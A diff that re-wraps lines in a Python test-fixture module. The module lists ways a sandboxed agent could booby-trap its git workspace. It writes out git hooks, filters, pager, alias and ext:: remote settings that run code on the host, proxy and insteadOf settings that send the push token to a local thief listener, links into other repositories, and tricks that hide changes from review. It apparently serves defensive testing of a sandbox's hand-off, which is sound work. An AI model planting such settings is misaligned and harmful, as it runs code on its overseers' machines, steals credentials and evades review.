@@ -1,7 +1,9 @@
-"""Hostile repositories: what an agent can leave in its workspace for the git of a host that works there.
+"""Hostile repositories: what an agent can leave in its workspace for the git of a host that works
+there.
 
-In the scripts $M is a file of the host that no command may make, $OUT a folder of the host with a secret, $OTHER
-another repository of the host, $ORIGIN where the work belongs. `program FILE` writes a program that makes $M.
+In the scripts $M is a file of the host that no command may make, $OUT a folder of the host with a
+secret, $OTHER another repository of the host, $ORIGIN where the work belongs. `program FILE` writes
+a program that makes $M.
 """
 
 from collections.abc import Mapping
@@ -33,8 +35,9 @@ class Harm(StrEnum):
 
 @dataclass(frozen=True, kw_only=True)
 class Plant:
-    """`script` is what the agent runs and `harm` what that does to a host that runs `host`. `refused` is what a person
-    is told of the work; without it the work is taken, `work` included (path -> mode, content).
+    """`script` is what the agent runs and `harm` what that does to a host that runs `host`.
+    `refused` is what a person is told of the work; without it the work is taken, `work` included
+    (path -> mode, content).
 
     `sign` is what a person should be shown of it, `bad` an entry that must not be pushed.
     """
@@ -60,7 +63,9 @@ def strays(script: str) -> Plant:
     return Plant(script=script, harm=Harm.STRAYS)
 
 
-def hides(script: str, sign: str = "+change", *, host: str = HOST, **work: tuple[str, str]) -> Plant:
+def hides(
+    script: str, sign: str = "+change", *, host: str = HOST, **work: tuple[str, str]
+) -> Plant:
     return Plant(script=script, harm=Harm.HIDES, host=host, sign=sign, work=work)
 
 
@@ -73,8 +78,9 @@ def spreads(script: str, bad: str, refused: str) -> Plant:
 
 
 HOOKS = (
-    "pre-commit prepare-commit-msg commit-msg post-commit pre-push post-index-change reference-transaction "
-    "post-checkout pre-auto-gc post-rewrite push-to-checkout applypatch-msg fsmonitor-watchman"
+    "pre-commit prepare-commit-msg commit-msg post-commit pre-push post-index-change"
+    " reference-transaction post-checkout pre-auto-gc post-rewrite push-to-checkout applypatch-msg"
+    " fsmonitor-watchman"
 )
 NESTED = "git init -q {0}; echo a >{0}/a; git -C {0} add a; git -C {0} commit -qm nested; "
 SUBMODULE = "is a submodule or a repository in the repository"
@@ -84,10 +90,17 @@ NOT_OUT = "could not be taken out of the sandbox"
 
 COMMANDS = {
     "fsmonitor": runs('program .git/p; git config core.fsmonitor "$PWD/.git/p"'),
-    "every hook": runs(f"mkdir -p .git/hooks; for hook in {HOOKS}; do program .git/hooks/$hook; done"),
+    "every hook": runs(
+        f"mkdir -p .git/hooks; for hook in {HOOKS}; do program .git/hooks/$hook; done"
+    ),
     "commit-msg hook": runs("mkdir -p .git/hooks; program .git/hooks/commit-msg"),
-    "reference-transaction hook": runs("mkdir -p .git/hooks; program .git/hooks/reference-transaction"),
-    "hooksPath": runs("mkdir hk; program hk/pre-commit; program hk/post-index-change; git config core.hooksPath hk"),
+    "reference-transaction hook": runs(
+        "mkdir -p .git/hooks; program .git/hooks/reference-transaction"
+    ),
+    "hooksPath": runs(
+        "mkdir hk; program hk/pre-commit; program hk/post-index-change; git config"
+        " core.hooksPath hk"
+    ),
     "clean filter": runs(
         "program .git/p; echo '* filter=x' >.gitattributes; git config filter.x.clean '.git/p'; "
         "git config filter.x.smudge cat; git config filter.x.required true"
@@ -97,15 +110,21 @@ COMMANDS = {
         "git config filter.x.process .git/p"
     ),
     "lfs": runs(
-        "program .git/p; echo '*.md filter=lfs diff=lfs merge=lfs -text' >.gitattributes; "
-        "printf '[lfs]\\n\\turl = http://127.0.0.1:%s/\\n' $THIEF >.lfsconfig; "
-        "git config filter.lfs.clean .git/p; git config filter.lfs.smudge cat; git config filter.lfs.process .git/p"
+        "program .git/p; echo '*.md filter=lfs diff=lfs merge=lfs -text' >.gitattributes; printf"
+        " '[lfs]\\n\\turl = http://127.0.0.1:%s/\\n' $THIEF >.lfsconfig; git config"
+        " filter.lfs.clean .git/p; git config filter.lfs.smudge cat; git config filter.lfs.process"
+        " .git/p"
     ),
     "diff.external": runs("program .git/p; git config diff.external .git/p"),
-    "diff driver": runs("program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.command .git/p"),
-    "textconv": runs("program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.textconv .git/p"),
+    "diff driver": runs(
+        "program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.command .git/p"
+    ),
+    "textconv": runs(
+        "program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.textconv .git/p"
+    ),
     "include.path": runs(
-        'program .git/p; printf "[core]\\n\\tfsmonitor = $PWD/.git/p\\n" >more; git config include.path ../more'
+        'program .git/p; printf "[core]\\n\\tfsmonitor = $PWD/.git/p\\n" >more; git config'
+        " include.path ../more"
     ),
     "config.worktree": runs(
         "program .git/p; git config extensions.worktreeConfig true; "
@@ -118,24 +137,36 @@ COMMANDS = {
         'cp -r .git common; program p; git config -f common/config core.fsmonitor "$PWD/p"; '
         "echo ../common >.git/commondir"
     ),
-    "gpg.program": runs("program .git/p; git config commit.gpgsign true; git config gpg.program .git/p"),
+    "gpg.program": runs(
+        "program .git/p; git config commit.gpgsign true; git config gpg.program .git/p"
+    ),
     "editor": runs(
         "program .git/p; git config core.editor .git/p",
         host="git add -A; git commit; git push origin HEAD:refs/heads/bot",
     ),
-    "pager": runs("program .git/p; git config core.pager .git/p", host="TERM=xterm script -qec 'git log -1' /dev/null"),
+    "pager": runs(
+        "program .git/p; git config core.pager .git/p",
+        host="TERM=xterm script -qec 'git log -1' /dev/null",
+    ),
     "alias": runs("program .git/p; git config alias.up '!.git/p'", host="git up"),
     "merge driver": runs(
-        "program .git/p; mkdir -p .git/info; echo '* merge=x' >.git/info/attributes; git config merge.x.driver .git/p",
+        "program .git/p; mkdir -p .git/info; echo '* merge=x' >.git/info/attributes; git config"
+        " merge.x.driver .git/p",
         host="git add -A; git commit -qm work; git fetch -q origin side; git merge FETCH_HEAD",
     ),
-    "ext:: remote": runs('git config protocol.ext.allow always; git config remote.origin.url "ext::sh -c touch% $M"; '),
+    "ext:: remote": runs(
+        'git config protocol.ext.allow always; git config remote.origin.url "ext::sh -c touch%'
+        ' $M"; '
+    ),
     "remote.vcs": runs(
         "git config protocol.ext.allow always; git config remote.origin.vcs ext; "
         'git config remote.origin.url "touch $M"'
     ),
     "receivepack": runs('git config remote.origin.receivepack "touch $M; git-receive-pack"'),
-    "uploadpack": runs('git config remote.origin.uploadpack "touch $M; git-upload-pack"', host="git fetch origin side"),
+    "uploadpack": runs(
+        'git config remote.origin.uploadpack "touch $M; git-upload-pack"',
+        host="git fetch origin side",
+    ),
     "alternateRefsCommand": runs(
         'program .git/p; git config core.alternateRefsCommand "$PWD/.git/p"; '
         'echo "$ORIGIN/objects" >>.git/objects/info/alternates',
@@ -146,7 +177,8 @@ COMMANDS = {
         "git config remote.origin.url ssh://git@127.0.0.1/x"
     ),
     "gitProxy": runs(
-        "program .git/p; git config core.gitProxy .git/p; git config remote.origin.url git://127.0.0.1:1/x"
+        "program .git/p; git config core.gitProxy .git/p; git config remote.origin.url"
+        " git://127.0.0.1:1/x"
     ),
     "credential.helper": runs(
         'program .git/p; git config credential.helper "$PWD/.git/p"',
@@ -169,10 +201,11 @@ COMMANDS = {
         refused=SUBMODULE,
     ),
     "submodule update command": runs(
-        NESTED.format("sub") + "program .git/p; git add sub; "
-        "printf '[submodule \"s\"]\\n\\tpath = sub\\n\\turl = ./sub\\n' >.gitmodules; git commit -qam sub; "
-        'git config submodule.s.url "$PWD/sub"; git config submodule.s.update "!$PWD/.git/p"; '
-        "git -C sub commit -q --allow-empty -m next",
+        NESTED.format("sub")
+        + 'program .git/p; git add sub; printf \'[submodule "s"]\\n\\tpath = sub\\n\\turl ='
+        ' ./sub\\n\' >.gitmodules; git commit -qam sub; git config submodule.s.url "$PWD/sub";'
+        ' git config submodule.s.update "!$PWD/.git/p"; git -C sub commit -q --allow-empty -m'
+        " next",
         host="git submodule update",
         refused=SUBMODULE,
     ),
@@ -186,24 +219,39 @@ COMMANDS = {
 OTHERS = {
     "core.worktree": Plant(script='git config core.worktree "$OUT"', harm=Harm.LEAKS),
     "objects of another repository": Plant(
-        script='echo "$OTHER/.git/objects" >>.git/objects/info/alternates; '
-        "git update-index --add --cacheinfo 100644,$STOLEN,stolen; git update-index --skip-worktree stolen",
+        script=(
+            'echo "$OTHER/.git/objects" >>.git/objects/info/alternates; git update-index --add'
+            " --cacheinfo 100644,$STOLEN,stolen; git update-index --skip-worktree stolen"
+        ),
         harm=Harm.LEAKS,
     ),
-    "git file of another repository": touches('mv .git .git-old; echo "gitdir: $OTHER/.git" >.git; rm -rf .git-old'),
+    "git file of another repository": touches(
+        'mv .git .git-old; echo "gitdir: $OTHER/.git" >.git; rm -rf .git-old'
+    ),
     "git link to another repository": touches('rm -rf .git; ln -s "$OTHER/.git" .git'),
     "commondir of another repository": touches('echo "$OTHER/.git" >.git/commondir'),
-    "refs of another repository": touches('git pack-refs --all; rm -rf .git/refs; ln -s "$OTHER/.git/refs" .git/refs'),
+    "refs of another repository": touches(
+        'git pack-refs --all; rm -rf .git/refs; ln -s "$OTHER/.git/refs" .git/refs'
+    ),
     "object folder of another repository": touches(
         'cp -r .git/objects/. "$OTHER/.git/objects/" 2>/dev/null; rm -rf .git/objects; '
         'ln -s "$OTHER/.git/objects" .git/objects'
     ),
-    "insteadOf": strays('git init -q --bare .git/evil; git config "url.$PWD/.git/evil.insteadOf" "$ORIGIN"'),
-    "pushInsteadOf": strays('git init -q --bare .git/evil; git config "url.$PWD/.git/evil.pushInsteadOf" "$ORIGIN"'),
-    "pushurl": strays('git init -q --bare .git/evil; git config remote.origin.pushurl "$PWD/.git/evil"'),
-    "insteadOf that takes the token": strays('git config "url.http://127.0.0.1:$THIEF/.insteadOf" "$ORIGIN"'),
+    "insteadOf": strays(
+        'git init -q --bare .git/evil; git config "url.$PWD/.git/evil.insteadOf" "$ORIGIN"'
+    ),
+    "pushInsteadOf": strays(
+        'git init -q --bare .git/evil; git config "url.$PWD/.git/evil.pushInsteadOf" "$ORIGIN"'
+    ),
+    "pushurl": strays(
+        'git init -q --bare .git/evil; git config remote.origin.pushurl "$PWD/.git/evil"'
+    ),
+    "insteadOf that takes the token": strays(
+        'git config "url.http://127.0.0.1:$THIEF/.insteadOf" "$ORIGIN"'
+    ),
     "a proxy that takes the token": strays(
-        'git config http.proxy "http://127.0.0.1:$THIEF"; git config remote.origin.url http://git.example/shop'
+        'git config http.proxy "http://127.0.0.1:$THIEF"; git config remote.origin.url'
+        " http://git.example/shop"
     ),
 }
 
@@ -213,13 +261,14 @@ HIDDEN = {
     "info/exclude": hides("mkdir -p .git/info; echo '*' >.git/info/exclude", "+new"),
     "excludesFile": hides("echo '*' >.git/none; git config core.excludesFile .git/none", "+new"),
     "sparse checkout": hides(
-        "git config core.sparseCheckout true; git config sparse.expectFilesOutsideOfPatterns true; "
-        "mkdir -p .git/info; echo /none >.git/info/sparse-checkout; git update-index --skip-worktree README.md"
+        "git config core.sparseCheckout true; git config sparse.expectFilesOutsideOfPatterns true;"
+        " mkdir -p .git/info; echo /none >.git/info/sparse-checkout; git update-index"
+        " --skip-worktree README.md"
     ),
     "an index that lies about times and sizes": hides(
-        "git checkout -q README.md; git config core.trustctime false; git config core.checkStat minimal; "
-        "touch -d 2020-01-01 README.md; git update-index --refresh; echo hallo >README.md; "
-        "touch -d 2020-01-01 README.md",
+        "git checkout -q README.md; git config core.trustctime false; git config core.checkStat"
+        " minimal; touch -d 2020-01-01 README.md; git update-index --refresh; echo hallo"
+        " >README.md; touch -d 2020-01-01 README.md",
         "+hallo",
         **{"README.md": ("100644", "hallo\n")},
     ),
@@ -244,11 +293,15 @@ HIDDEN = {
 
 BROKEN = {
     "no git folder": loses("rm -rf .git"),
-    "a corrupt git folder": loses("printf '\\0\\0' >.git/HEAD; rm -rf .git/refs; echo 'garbage = [' >.git/config"),
+    "a corrupt git folder": loses(
+        "printf '\\0\\0' >.git/HEAD; rm -rf .git/refs; echo 'garbage = [' >.git/config"
+    ),
     "a git folder of the future": loses("git config core.repositoryFormatVersion 99"),
     "an index that is rubbish": loses("echo rubbish >.git/index"),
     "an index that is locked": loses("touch .git/index.lock"),
-    "packed refs that are rubbish": loses("echo 'zzzz refs/heads/work' >.git/packed-refs; rm -rf .git/refs/*"),
+    "packed refs that are rubbish": loses(
+        "echo 'zzzz refs/heads/work' >.git/packed-refs; rm -rf .git/refs/*"
+    ),
     "an encoding that the files do not have": loses(
         "echo '* working-tree-encoding=UTF-16' >.gitattributes", refused=NOT_OUT
     ),
@@ -270,7 +323,8 @@ ENTRIES = {
         "mkdir $'.g\\u200cit'; program $'.g\\u200cit/config'", "\u200c", NOT_TAKEN
     ),
     ".gitmodules with a command": spreads(
-        "printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = ext::sh -c true\\n\\tupdate = !touch x\\n' >.gitmodules",
+        'printf \'[submodule "s"]\\n\\tpath = s\\n\\turl = ext::sh -c true\\n\\tupdate = !touch'
+        " x\\n' >.gitmodules",
         ".gitmodules",
         NOT_TAKEN,
     ),
@@ -283,10 +337,18 @@ ENTRIES = {
         ".github/workflows/x.yml",
         "is protected",
     ),
-    "a name that breaks the line": spreads("touch $'a\\nb'", "a\nb", "has a control character in it"),
-    "a name that clears the screen": spreads("touch $'a\\e[2Jb'", "a\x1b[2Jb", "has a control character in it"),
-    "a name that is read backwards": spreads("touch $'a\\u202etxt.sh'", "\u202e", "has a control character in it"),
-    "too many files": spreads("mkdir many; cd many; touch {1..3001}", "many/1", "files were changed"),
+    "a name that breaks the line": spreads(
+        "touch $'a\\nb'", "a\nb", "has a control character in it"
+    ),
+    "a name that clears the screen": spreads(
+        "touch $'a\\e[2Jb'", "a\x1b[2Jb", "has a control character in it"
+    ),
+    "a name that is read backwards": spreads(
+        "touch $'a\\u202etxt.sh'", "\u202e", "has a control character in it"
+    ),
+    "too many files": spreads(
+        "mkdir many; cd many; touch {1..3001}", "many/1", "files were changed"
+    ),
     "a file that is too large": spreads("truncate -s 21M large", "large", "is larger than 20 MiB"),
 }
 
@@ -297,5 +359,8 @@ WORK: Mapping[str, tuple[str, Mapping[str, tuple[str, str]]]] = {
         "git add -A; git commit -qm mine; git checkout -q --orphan other; git rm -rqf src",
         {},
     ),
-    "a changed file that is ignored": ("echo '*.md' >.gitignore", {".gitignore": ("100644", "*.md\n")}),
+    "a changed file that is ignored": (
+        "echo '*.md' >.gitignore",
+        {".gitignore": ("100644", "*.md\n")},
+    ),
 }
